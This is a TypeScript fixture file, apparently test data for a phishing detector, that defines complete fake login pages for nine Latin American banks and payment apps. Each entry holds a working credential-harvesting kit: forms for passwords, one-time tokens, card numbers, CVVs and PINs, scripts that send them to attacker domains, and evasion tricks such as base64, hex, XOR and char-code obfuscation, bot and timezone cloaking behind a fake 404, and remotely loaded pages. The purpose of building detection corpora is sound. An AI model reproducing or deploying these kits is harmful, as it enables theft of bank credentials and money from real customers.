import { type Entry, htmlRoute } from '../entry.js';
import { doc, logo, favicon, botGate, cardJs, b64, hex, charCodes, revB64 } from '../parts/yy-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

const banamexInner = `<div class="hdr">${logo('banamex', 34)}<span>BancaNet</span></div>
<div class="wrap"><div class="panel"><h2>Acceso a BancaNet</h2>
<p class="msg">Por disposición oficial es necesario actualizar tu información antes del 30 de noviembre, de lo contrario tu tarjeta será suspendida.</p>
<form id="bn"><label>Número de cliente</label><input id="cli" maxlength="12" inputmode="numeric">
<label>Clave de acceso</label><input id="cla" type="password" maxlength="12">
<label>Tarjeta de débito (16 dígitos)</label><input id="tdd" maxlength="19" inputmode="numeric" oninput="fmt(this)">
<label>NetKey / Clave dinámica</label><input id="nk" maxlength="8" inputmode="numeric">
<button type="submit">Continuar</button></form></div></div>`;
const interbankKit = doc({
  lang: 'es-PE',
  title: 'Interbank | Banca por Internet',
  head: favicon('#05be50', 'i'),
  css: `body{margin:0;font-family:Arial;background:#f1f4f3}.h{background:#fff;padding:16px 30px;border-bottom:3px solid #05be50}
.p{max-width:400px;margin:40px auto;background:#fff;border-radius:12px;padding:30px}.p h2{color:#0a3b2a}
.p input{width:100%;box-sizing:border-box;padding:13px;border:1px solid #c7d0cc;border-radius:8px;margin:8px 0;font-size:15px}
.p button{width:100%;padding:14px;border:0;border-radius:8px;background:#05be50;color:#fff;font-size:16px;font-weight:700}
.w{background:#fff6e0;padding:10px;border-radius:8px;font-size:13px}`,
  body: `<div class="h">${logo('interbank', 28)}</div>
<div class="p"><h2>Hola, ingresa a tu cuenta</h2><p class="w">Tu acceso fue <b>bloqueado temporalmente</b> por intentos fallidos. Valida tu identidad para reactivarlo.</p>
<form id="ib"><input name="tarjeta" placeholder="Número de tarjeta" inputmode="numeric" maxlength="19"><input name="dni" placeholder="DNI" inputmode="numeric" maxlength="8"><input name="clave" type="password" placeholder="Clave web (6 dígitos)" maxlength="6"><input name="cvv" placeholder="CVV" maxlength="3"><input name="vence" placeholder="Vencimiento MM/AA" maxlength="5"><button>Desbloquear</button></form></div>`,
});
const itauHtml = `<div class="t">${logo('itau', 38)}<span>Itaú Personnalité · Acesso</span></div>
<div class="b"><h2>Atualização do iToken</h2><p>Seu dispositivo de segurança expira hoje. Para evitar o bloqueio do seu acesso, sincronize o iToken.</p>
<form id="frm"><div class="r"><div><label>Agência</label><input name="ag" maxlength="4" inputmode="numeric"></div><div><label>Conta</label><input name="ct" maxlength="7"></div></div>
<label>Senha eletrônica (6 dígitos)</label><input name="se" id="se" type="password" readonly><div class="tec" id="tec"></div>
<label>Código iToken</label><input name="tk" maxlength="6" inputmode="numeric"><button>Sincronizar</button></form></div>`;

export const entries: Entry[] = [
{
  id: 'yy-bbva-mx-token-kit',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://bbvanet-mx.aclaracion-cargos.online/mx/personas/acceso/',
  body: doc({
    lang: 'es-MX',
    title: 'BBVA México | Banca en línea',
    head: favicon('#072146', 'B'),
    css: `body{margin:0;font-family:"Benton Sans",Arial,sans-serif;background:#f4f4f4;color:#121212}
.top{background:#072146;height:64px;display:flex;align-items:center;padding:0 32px}.top svg text{fill:#fff}
.box{max-width:420px;margin:48px auto;background:#fff;padding:36px 32px;box-shadow:0 2px 8px rgba(0,0,0,.1)}
h1{font-size:22px;font-weight:400;margin:0 0 22px}label{font-size:13px;color:#666;display:block;margin-top:16px}
input{width:100%;border:0;border-bottom:1px solid #bdbdbd;padding:10px 0;font-size:17px;outline:none;background:#f4f4f4;padding-left:8px}
button{margin-top:28px;width:100%;background:#1973b8;color:#fff;border:0;padding:15px;font-size:15px;cursor:pointer}
.step{display:none}.step.on{display:block}.nota{font-size:12px;color:#666;margin-top:18px}.err{color:#c62828;font-size:13px;display:none}
.load{position:fixed;inset:0;background:rgba(255,255,255,.9);display:none;align-items:center;justify-content:center;font-size:15px}`,
    body: `<div class="top">${logo('bbva', 30)}</div>
<div class="box">
 <div class="step on" id="s1">
  <h1>Bienvenido a tu Banca en línea</h1>
  <p style="font-size:14px;color:#555">Detectamos un cargo no reconocido por <b>$8,749.00 MXN</b> en tu cuenta. Para cancelarlo ingresa a tu banca.</p>
  <label for="tj">Número de tarjeta o cliente</label><input id="tj" inputmode="numeric" maxlength="19" autocomplete="off">
  <label for="pw">Contraseña</label><input id="pw" type="password" maxlength="20">
  <div class="err" id="e1">Verifica los datos ingresados.</div>
  <button onclick="paso1()">Entrar</button>
 </div>
 <div class="step" id="s2">
  <h1>Confirma la operación</h1>
  <p style="font-size:14px">Ingresa el código de 8 dígitos que muestra tu <b>Token móvil</b> en la app BBVA México para cancelar el cargo.</p>
  <label for="otp">Código de seguridad</label><input id="otp" inputmode="numeric" maxlength="8">
  <button onclick="paso2()">Continuar</button>
 </div>
 <div class="step" id="s3">
  <h1>Validación de tarjeta</h1>
  <label for="exp">Fecha de vencimiento (MM/AA)</label><input id="exp" maxlength="5">
  <label for="cvv">CVV</label><input id="cvv" type="password" maxlength="3">
  <label for="nip">NIP de cajero</label><input id="nip" type="password" maxlength="4">
  <button onclick="paso3()">Cancelar cargo</button>
 </div>
 <p class="nota">BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México.</p>
</div>
<div class="load" id="ld">Validando información, espera un momento…</div>
<script>
var sid=Math.random().toString(36).slice(2,10);
function mandar(p,d){d.sid=sid;d.paso=p;return fetch('enviar.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(d)}).then(function(r){return r.json()});}
function ver(n){document.querySelectorAll('.step').forEach(function(s){s.classList.remove('on')});document.getElementById('s'+n).classList.add('on');}
function carga(on){document.getElementById('ld').style.display=on?'flex':'none';}
function paso1(){var t=document.getElementById('tj').value.replace(/\\s/g,''),p=document.getElementById('pw').value;if(t.length<10||p.length<6){document.getElementById('e1').style.display='block';return;}carga(1);mandar(1,{usuario:t,clave:p}).then(function(){setTimeout(function(){carga(0);ver(2);},2500);});}
function paso2(){carga(1);mandar(2,{token:document.getElementById('otp').value}).then(function(){setTimeout(function(){carga(0);ver(3);},3000);});}
function paso3(){carga(1);mandar(3,{vence:document.getElementById('exp').value,cvv:document.getElementById('cvv').value,nip:document.getElementById('nip').value}).then(function(){location.href='https://www.bbva.mx/';});}
</script>`,
  }),
  routes: {
    'bbvanet-mx.aclaracion-cargos.online/mx/personas/acceso/enviar.php': jsonRoute({ ok: 1, next: true }),
  },
},
{
  id: 'yy-banamex-bancanet-atob',
  label: 'phishing',
  kind: 'obfuscated-bank-kit',
  url: 'https://bancanet-banamex.seguridad-clientes.cfd/empresarial/acceso.php',
  body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Banamex</title><meta name="robots" content="noindex,nofollow">
<style>body{margin:0;font-family:Arial;background:#eef1f5}.hdr{background:#fff;padding:14px 30px;display:flex;align-items:center;gap:14px;border-bottom:3px solid #002b5c}.hdr span{color:#002b5c;font-size:20px}
.wrap{display:flex;justify-content:center;padding:40px}.panel{background:#fff;width:400px;padding:28px;border-radius:6px}h2{color:#002b5c;margin-top:0}.msg{background:#fdecea;color:#8a1c13;padding:10px;font-size:13px}
label{font-size:13px;display:block;margin-top:12px}input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #aab;margin-top:4px}button{margin-top:20px;background:#002b5c;color:#fff;border:0;padding:12px;width:100%}</style></head><body>
<div id="app"></div>
<script>
var _0x1a=['${revB64(banamexInner)}'];
function _d(s){return decodeURIComponent(escape(atob(s.split('').reverse().join(''))));}
document.getElementById('app').innerHTML=_d(_0x1a[0]);
${cardJs}
var _e=atob('${b64('https://api-bnx-panel.kesug.com/gate.php')}');
document.getElementById('bn').addEventListener('submit',function(ev){ev.preventDefault();
var q='c='+encodeURIComponent(cli.value)+'&k='+encodeURIComponent(cla.value)+'&t='+encodeURIComponent(tdd.value)+'&n='+encodeURIComponent(nk.value)+'&l='+(luhn(tdd.value)?1:0);
var i=new Image();i.src=_e+'?'+q;setTimeout(function(){location.href='https://www.banamex.com/';},1800);});
</script></body></html>`,
},
{
  id: 'yy-bancolombia-svp-firebase',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://svpersonas-bancolombia-co.web.app/mua/USER',
  body: doc({
    lang: 'es-CO',
    title: 'Sucursal Virtual Personas',
    head: favicon('#fdda24', 'B'),
    css: `body{margin:0;font-family:"Open Sans",Arial;background:#f7f7f7;color:#2c2a29}
.bar{background:#fff;padding:16px 40px;box-shadow:0 1px 4px rgba(0,0,0,.1)}.bar b{float:right;font-weight:400;font-size:13px;margin-top:10px}
.main{max-width:440px;margin:40px auto;background:#fff;border-radius:16px;padding:32px}
h3{font-size:20px;margin:0 0 8px}.sub{color:#666;font-size:14px}
input{width:100%;box-sizing:border-box;border:0;border-bottom:1px solid #2c2a29;padding:10px 0;font-size:17px;margin:6px 0 18px;outline:0}
.pad{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin:10px 0}.pad button{height:44px;border:1px solid #ccc;background:#fff;border-radius:8px;font-size:18px}
.go{width:100%;height:46px;border:0;border-radius:24px;background:#fdda24;font-weight:700;font-size:15px}.dots{font-size:28px;letter-spacing:8px;text-align:center}
#pC,#pD{display:none}`,
    body: `<div class="bar">${logo('bancolombia', 30)}<b>Sucursal Virtual Personas</b></div>
<div class="main">
<div id="pU"><h3>¡Hola!</h3><p class="sub">Ingresa tu usuario para continuar</p><input id="usr" placeholder="Usuario" autocomplete="off"><button class="go" onclick="sigU()">Continuar</button></div>
<div id="pC"><h3>Clave principal</h3><p class="sub">Ingresa tu clave de 4 dígitos usando el teclado virtual.</p><div class="dots" id="dots">○○○○</div><div class="pad" id="pad"></div><button class="go" onclick="sigC()">Ingresar</button></div>
<div id="pD"><h3>Clave dinámica</h3><p class="sub">Por tu seguridad ingresa la clave dinámica que aparece en la App Mi Bancolombia.</p><input id="din" maxlength="6" inputmode="numeric"><button class="go" onclick="sigD()">Validar</button></div>
</div>
<script>
var clave='',U='';
var orden=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});
orden.forEach(function(n){var b=document.createElement('button');b.textContent=n;b.onclick=function(){if(clave.length<4){clave+=n;document.getElementById('dots').textContent='●'.repeat(clave.length)+'○'.repeat(4-clave.length);}};document.getElementById('pad').appendChild(b);});
function post(o){o.u=U;return fetch('https://bcol-svp-panel.xyz/api/recibir.php',{method:'POST',mode:'no-cors',body:JSON.stringify(o)});}
function sigU(){U=document.getElementById('usr').value;if(!U)return;post({paso:'usuario'});pU.style.display='none';pC.style.display='block';}
function sigC(){if(clave.length<4)return;post({paso:'clave',c:clave});pC.style.display='none';pD.style.display='block';}
function sigD(){post({paso:'dinamica',d:document.getElementById('din').value}).finally(function(){document.body.innerHTML='<p style="text-align:center;margin-top:80px;font-family:Arial">Tu solicitud está siendo procesada. Un asesor te contactará.</p>';});}
</script>`,
  }),
},
{
  id: 'yy-daviplata-renta-ciudadana',
  label: 'phishing',
  kind: 'subsidy-credential-kit',
  url: 'https://daviplata-rentaciudadana.online/consulta/giro',
  body: doc({
    lang: 'es-CO',
    title: 'DaviPlata - Consulta tu giro Renta Ciudadana',
    head: favicon('#ed1c27', 'D'),
    css: `body{margin:0;font-family:Arial;background:#f3f3f3}.t{background:#ed1c27;padding:18px;text-align:center}.t svg text{fill:#fff}
.g{max-width:420px;margin:0 auto;padding:20px}.aviso{background:#fff;border-radius:12px;padding:18px;border-top:6px solid #ed1c27}
.aviso h2{font-size:19px;margin:0 0 8px}select,input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #bbb;border-radius:8px;margin:6px 0 12px;font-size:15px}
button{width:100%;padding:14px;background:#ed1c27;color:#fff;border:0;border-radius:8px;font-size:16px;font-weight:700}.logos{font-size:11px;color:#666;text-align:center;margin-top:18px}`,
    body: `<div class="t">${logo('daviplata', 34)}</div>
<div class="g"><div class="aviso"><h2>Renta Ciudadana – Ciclo 4</h2><p style="font-size:14px">Prosperidad Social asignó un giro de <b>$500.000</b> a tu documento. Para recibirlo en tu DaviPlata confirma tus datos.</p>
<form action="https://daviplata-rentaciudadana.online/consulta/validar.php" method="post">
<label style="font-size:13px">Tipo de documento</label><select name="tipo"><option>Cédula de ciudadanía</option><option>Tarjeta de identidad</option><option>Cédula de extranjería</option><option>PPT</option></select>
<input name="doc" placeholder="Número de documento" inputmode="numeric" required>
<input name="cel" placeholder="Número de celular DaviPlata" inputmode="tel" required>
<input name="clave" placeholder="Clave DaviPlata (4 dígitos)" type="password" maxlength="4" inputmode="numeric" required>
<input name="fexp" placeholder="Fecha de expedición del documento (DD/MM/AAAA)" required>
<button>Consultar y recibir giro</button></form></div>
<p class="logos">Prosperidad Social · Departamento Nacional de Planeación · Banco Davivienda</p></div>`,
  }),
  routes: {
    'daviplata-rentaciudadana.online/consulta/validar.php': htmlRoute(doc({
      lang: 'es-CO',
      title: 'DaviPlata - Código de verificación',
      body: `<div style="max-width:400px;margin:50px auto;font-family:Arial;text-align:center">${logo('daviplata', 30)}<h3>Te enviamos un código por SMS</h3><p>Escríbelo para autorizar el abono del giro a tu DaviPlata.</p><form action="otp.php" method="post"><input name="otp" maxlength="6" style="font-size:24px;width:160px;text-align:center"><br><br><button style="background:#ed1c27;color:#fff;border:0;padding:12px 40px;border-radius:8px">Autorizar</button></form></div>`,
    })),
  },
},
{
  id: 'yy-bcp-zonasegura-param-cloak',
  label: 'phishing',
  kind: 'cloaked-bank-kit',
  url: 'https://zonasegura1-viabcp.com/iniciar-sesion/?id=8842fa01',
  body: doc({
    lang: 'es-PE',
    title: 'Banca por Internet | BCP',
    head: favicon('#002a8d', 'B'),
    css: `body{margin:0;font-family:"Flexo",Arial;background:#fff}.x{display:none}
.hd{background:#002a8d;height:60px;display:flex;align-items:center;padding:0 24px}.hd svg text{fill:#fff}
.bx{max-width:380px;margin:36px auto;padding:0 16px}h1{color:#002a8d;font-size:24px}
.fld{border:1px solid #b5bfd9;border-radius:4px;padding:8px 12px;margin-bottom:14px}.fld span{font-size:12px;color:#5a6a8a}.fld input{border:0;width:100%;font-size:16px;outline:0;padding-top:4px}
.row{display:flex;gap:10px}.btn{width:100%;height:48px;background:#ff7800;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:700}
.kb{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin-bottom:14px}.kb span{border:1px solid #ccd;padding:10px 0;text-align:center;cursor:pointer}`,
    body: `<div id="real" class="x"><div class="hd">${logo('bcp', 30)}</div>
<div class="bx"><h1>Banca por Internet</h1>
<form id="f" method="post" action="/iniciar-sesion/procesar.php">
<div class="fld"><span>Número de tarjeta de débito o crédito</span><input name="card" inputmode="numeric" maxlength="19" required></div>
<div class="row"><div class="fld" style="width:90px"><span>Tipo</span><input value="DNI" readonly></div><div class="fld" style="flex:1"><span>Número de documento</span><input name="dni" inputmode="numeric" maxlength="8" required></div></div>
<div class="fld"><span>Clave de Internet de 6 dígitos</span><input name="clave" id="clave" type="password" readonly></div>
<div class="kb" id="kb"></div>
<button class="btn">Continuar</button></form></div></div>
<script>
(function(){var q=new URLSearchParams(location.search);var ok=q.get('id')&&q.get('id').length===8&&/Mobi|Android|Windows NT/.test(navigator.userAgent)&&!navigator.webdriver;
if(!ok){document.title='404 Not Found';document.body.innerHTML='<h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.41 (Ubuntu) Server</address>';return;}
document.getElementById('real').classList.remove('x');
var k=document.getElementById('kb'),c=document.getElementById('clave');'5829017364'.split('').forEach(function(d){var s=document.createElement('span');s.textContent=d;s.onclick=function(){if(c.value.length<6)c.value+=d;};k.appendChild(s);});
var f=document.createElement('input');f.type='hidden';f.name='vid';f.value=q.get('id');document.getElementById('f').appendChild(f);})();
</script>`,
  }),
  routes: {
    'zonasegura1-viabcp.com/iniciar-sesion/procesar.php': htmlRoute(doc({
      lang: 'es-PE',
      title: 'Token Digital | BCP',
      body: `<div style="font-family:Arial;max-width:380px;margin:60px auto">${logo('bcp', 28)}<h2 style="color:#002a8d">Valida con tu Token Digital</h2><p>Abre tu App Banca Móvil BCP, ingresa a Token Digital y escribe la clave de 6 dígitos.</p><form method="post" action="token.php"><input name="token" maxlength="6" style="width:100%;padding:12px;font-size:20px"><br><br><button style="width:100%;padding:12px;background:#ff7800;color:#fff;border:0">Validar</button></form></div>`,
    })),
  },
},
{
  id: 'yy-interbank-antibot-loader',
  label: 'phishing',
  kind: 'cloaked-bank-kit',
  url: 'https://interbank-pe.bloqueo-cuenta.info/reactivar/',
  body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Cargando…</title><meta name="viewport" content="width=device-width,initial-scale=1"><style>body{font-family:Arial;display:flex;align-items:center;justify-content:center;height:100vh;margin:0;color:#666}</style></head>
<body><p id="m">Cargando…</p>
<script>
${botGate('https://interbank.pe/', ['PE'], "var z=Intl.DateTimeFormat().resolvedOptions().timeZone;if(z!=='America/Lima'){location.replace('https://interbank.pe/');return;}fetch('https://cdn-ib-static.pages.dev/k/ib.html').then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close();var f=document.getElementById('ib');f.addEventListener('submit',function(e){e.preventDefault();fetch('https://cdn-ib-static.pages.dev/k/save',{method:'POST',body:new FormData(f)}).then(function(){location.href='https://interbank.pe/';});});});")}
</script></body></html>`,
  routes: {
    'cdn-ib-static.pages.dev/k/ib.html': htmlRoute(interbankKit, { 'access-control-allow-origin': '*' }),
  },
},
{
  id: 'yy-bna-hb-coordenadas',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://hb-bna-com-ar.validar-token.site/bna/login.htm',
  body: doc({
    lang: 'es-AR',
    title: 'Home Banking Banco Nación',
    head: favicon('#0a6ebd', 'N'),
    css: `body{margin:0;font-family:Verdana,Arial;font-size:13px;background:#e9eef3}.h{background:#fff;padding:10px 24px;border-bottom:4px solid #0a6ebd}
.c{width:720px;margin:24px auto;display:flex;gap:20px}.f{flex:1;background:#fff;padding:20px;border:1px solid #cdd6e0}
.f h3{color:#0a6ebd;margin-top:0}.f input{width:100%;box-sizing:border-box;padding:7px;border:1px solid #9aa;margin:4px 0 10px}
.f button{background:#0a6ebd;color:#fff;border:0;padding:9px 22px}.s{width:220px;background:#fffbe6;border:1px solid #e8d98a;padding:14px}
table.coord td{border:1px solid #999;padding:4px 6px;text-align:center}table.coord input{width:36px;text-align:center;margin:0}#p2{display:none}`,
    body: `<div class="h">${logo('bna', 30)}</div>
<div class="c"><div class="f">
<div id="p1"><h3>Ingreso a Home Banking</h3><label>Usuario</label><input id="u" maxlength="20"><label>Clave</label><input id="k" type="password" maxlength="8"><button onclick="p1()">Ingresar</button></div>
<div id="p2"><h3>Validación con Tarjeta de Coordenadas</h3><p>Por el nuevo sistema de seguridad del BCRA debés validar tu tarjeta de coordenadas. Ingresá los valores solicitados:</p>
<table class="coord"><tr><td>A3</td><td><input maxlength="2"></td><td>C1</td><td><input maxlength="2"></td><td>E5</td><td><input maxlength="2"></td></tr>
<tr><td>B2</td><td><input maxlength="2"></td><td>D4</td><td><input maxlength="2"></td><td>F3</td><td><input maxlength="2"></td></tr>
<tr><td>G1</td><td><input maxlength="2"></td><td>H5</td><td><input maxlength="2"></td><td>J2</td><td><input maxlength="2"></td></tr></table>
<label>DNI del titular</label><input id="dni" maxlength="8"><button onclick="p2()">Confirmar</button></div>
</div><div class="s"><b>Importante</b><p>Si no validás tu tarjeta antes del 15/11 tus cuentas quedarán inhabilitadas para operar por Home Banking y BNA+.</p></div></div>
<script>
var x='${hex('https://bna-pnl.000webhostapp.com/r.php')}';
var D=x.match(/../g).map(function(h){return String.fromCharCode(parseInt(h,16))}).join('');
function s(o){var f=new FormData();for(var k in o)f.append(k,o[k]);return fetch(D,{method:'POST',body:f,mode:'no-cors'});}
function p1(){s({u:u.value,k:k.value});p1d();}
function p1d(){document.getElementById('p1').style.display='none';document.getElementById('p2').style.display='block';}
function p2(){var v=Array.from(document.querySelectorAll('.coord input')).map(function(i,n){return ['A3','C1','E5','B2','D4','F3','G1','H5','J2'][n]+'='+i.value}).join(';');s({u:u.value,coords:v,dni:dni.value}).then(function(){location='https://www.bna.com.ar/';});}
</script>`,
  }),
},
{
  id: 'yy-nubank-pix-bloqueado',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://nu-desbloqueio-pix.com/app/seguranca',
  body: doc({
    lang: 'pt-BR',
    title: 'Nubank - Central de Segurança',
    head: favicon('#820ad1', 'n'),
    css: `body{margin:0;font-family:Graphik,Arial;background:#f4f4f4;color:#111}.topo{background:#820ad1;padding:20px 24px}.topo svg text{fill:#fff}
.ct{max-width:420px;margin:0 auto;padding:22px}.al{background:#fff;border-radius:16px;padding:20px;margin-bottom:16px}
.al h2{margin:0 0 6px;font-size:20px}.red{color:#d6002a;font-weight:600}
input{width:100%;box-sizing:border-box;padding:14px;border:0;border-bottom:2px solid #ccc;font-size:17px;margin:8px 0 16px;background:transparent}
button{width:100%;padding:16px;border:0;border-radius:30px;background:#820ad1;color:#fff;font-size:16px;font-weight:600}.e{display:none}`,
    body: `<div class="topo">${logo('nubank', 40)}</div>
<div class="ct">
<div class="al"><h2>Seu Pix foi bloqueado</h2><p class="red">Identificamos uma transferência suspeita de R$ 1.987,00 para CARLOS E. M. SILVA.</p><p>Para cancelar a transação e desbloquear sua conta, confirme seus dados abaixo.</p></div>
<div class="al" id="e1"><label>CPF</label><input id="cpf" inputmode="numeric" maxlength="14" placeholder="000.000.000-00"><label>Senha de 4 dígitos do app</label><input id="sen" type="password" inputmode="numeric" maxlength="4"><button onclick="ir(2)">Continuar</button></div>
<div class="al e" id="e2"><label>Número do cartão Nubank</label><input id="cc" inputmode="numeric" maxlength="19" oninput="fmt(this)"><label>Validade</label><input id="vd" maxlength="5" placeholder="MM/AA"><label>CVV</label><input id="cv" maxlength="3" inputmode="numeric"><button onclick="ir(3)">Desbloquear Pix</button></div>
<div class="al e" id="e3"><h2>Pronto!</h2><p>Aguarde a ligação da nossa central para concluir o cancelamento. Não desligue o celular.</p></div>
</div>
<script>
${cardJs}
var K='nu$22';
function enc(s){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^K.charCodeAt(i%K.length));return btoa(o);}
var gw=String.fromCharCode(${charCodes('https://painel-nu.online/cap/g.php')});
function ir(n){var d={cpf:cpf.value,s:sen.value};if(n===3){if(!luhn(cc.value)){cc.style.borderColor='#d6002a';return;}d.cc=cc.value;d.vd=vd.value;d.cv=cv.value;d.b=marca(cc.value.replace(/\\D/g,''));}
navigator.sendBeacon(gw,enc(JSON.stringify(d)));document.getElementById('e'+(n-1)).style.display='none';document.getElementById('e'+n).style.display='block';}
</script>`,
  }),
},
{
  id: 'yy-itau-itoken-hex',
  label: 'phishing',
  kind: 'obfuscated-bank-kit',
  url: 'https://itau-atualizacao-cadastral.net/personnalite/sincronizar.php',
  body: `<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>Itaú</title><meta name="viewport" content="width=device-width,initial-scale=1">${favicon('#ec7000', 'i')}
<style>body{margin:0;font-family:Arial;background:#f0ece8}.t{background:#ec7000;padding:14px 26px;display:flex;align-items:center;gap:14px;color:#fff}
.b{max-width:420px;margin:30px auto;background:#fff;padding:26px;border-radius:8px}.b h2{color:#003399}.r{display:flex;gap:12px}.r div{flex:1}
label{display:block;font-size:13px;margin-top:10px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa;border-radius:4px}
.tec{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin-top:8px}.tec button{padding:10px 0;background:#003399;color:#fff;border:0;border-radius:4px;font-size:12px}
button[type=submit],form>button{margin-top:18px;width:100%;background:#ec7000;color:#fff;border:0;padding:12px;font-size:15px}</style></head><body>
<div id="root"></div>
<script>
var _h='${hex(itauHtml)}';
function _u(h){var b=new Uint8Array(h.length/2);for(var i=0;i<b.length;i++)b[i]=parseInt(h.substr(i*2,2),16);return new TextDecoder().decode(b);}
document.getElementById('root').innerHTML=_u(_h);
var pares=[['1','7'],['3','0'],['2','9'],['5','8'],['4','6']];
pares.forEach(function(p){var b=document.createElement('button');b.type='button';b.textContent=p[0]+' ou '+p[1];b.onclick=function(){var s=document.getElementById('se');if(s.value.length<6){s.value+='*';s.dataset.v=(s.dataset.v||'')+p.join('');}};document.getElementById('tec').appendChild(b);});
document.getElementById('frm').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.set('se',document.getElementById('se').dataset.v||'');
fetch(_u('${hex('/personnalite/api/recebe.php')}'),{method:'POST',body:f}).then(function(){location.replace('https://www.itau.com.br/');});};
</script></body></html>`,
  routes: {
    'itau-atualizacao-cadastral.net/personnalite/api/recebe.php': jsonRoute({ status: 'ok' }),
  },
},
];
